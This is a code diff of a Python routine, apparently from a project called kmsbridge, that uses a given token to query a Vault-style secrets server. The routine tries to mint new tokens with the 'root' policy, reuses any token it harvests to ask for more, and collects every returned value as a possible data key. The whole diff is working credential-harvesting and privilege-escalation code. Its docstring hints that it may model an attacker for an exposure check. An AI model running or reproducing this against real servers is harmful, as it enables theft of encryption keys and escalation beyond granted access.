@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import functools
 import re
 from collections.abc import Iterator, Mapping
 from typing import Any, Final
@@ -16,33 +17,40 @@ from kmsbridge.context import EncryptionContext
 from kmsbridge.message import parse_header
 
 _KEY: Final = re.compile(rb"vault-transit:(?://)?([\w-]+)/([\w-]+)")
+_TOKEN: Final = re.compile(r"s\.\w{24}")
 _TIMEOUT: Final = 30
 _MOST: Final = 4096
 
 Request = tuple[str, str, Mapping[str, Any] | None]
 
 
-def secrets(
-    server: str, token: str, files: Mapping[str, bytes], messages: Values, *, deeper: bool = True
-) -> set[bytes]:
-    """Return everything of 32 bytes or more that the server gives the holder of `token`, cut into pieces of 32."""
-    found: set[bytes] = set()
+def secrets(server: str, token: str, files: Mapping[str, bytes], messages: Values) -> set[bytes]:
+    """Return whatever the server gives the holder of `token` that may be a data key."""
     named = {pair for data in (*files.values(), *messages.values()) for pair in _KEY.findall(data)}
+    keys = frozenset((mount.decode(), key.decode()) for mount, key in named)
+    said = set(_asked(server, token, keys, tuple(messages.items())))
+    for other in {each for each in said if _TOKEN.fullmatch(each)} - {token}:  # made for us, it may do more
+        said |= _asked(server, other, keys, tuple(messages.items()))
+    return {piece for text in said for piece in _pieces(text)}
+
+
+@functools.cache
+def _asked(
+    server: str, token: str, keys: frozenset[tuple[str, str]], messages: tuple[tuple[Place, bytes], ...]
+) -> frozenset[str]:
+    """Return every text in the server's answers. Who holds the same as another attacker would be told the same."""
+    said: set[str] = set()
     with requests.Session() as session:
         session.trust_env = False
         session.headers["X-Vault-Token"] = token
-        for method, path, body in _requests({(one.decode(), two.decode()) for one, two in named}, messages):
+        for method, path, body in _requests(keys, dict(messages)):
             answer = session.request(method, f"{server}/v1/{path}", json=body, timeout=_TIMEOUT)
             with contextlib.suppress(requests.JSONDecodeError):
-                said = list(_texts(answer.json()))
-                found |= {piece for text in said for piece in _pieces(text)}
-                for other in said if deeper else ():  # a token that it made for us may do more
-                    if re.fullmatch(r"s\.\w{24}", other) and other != token:
-                        found |= secrets(server, other, files, messages, deeper=False)
-    return found
+                said.update(_texts(answer.json()))
+    return frozenset(said)
 
 
-def _requests(keys: set[tuple[str, str]], messages: Values) -> Iterator[Request]:
+def _requests(keys: frozenset[tuple[str, str]], messages: Values) -> Iterator[Request]:
     yield "GET", "auth/token/lookup-self", None
     yield "POST", "auth/token/create", {"policies": ["root"]}
     yield "POST", "auth/token/create", {}
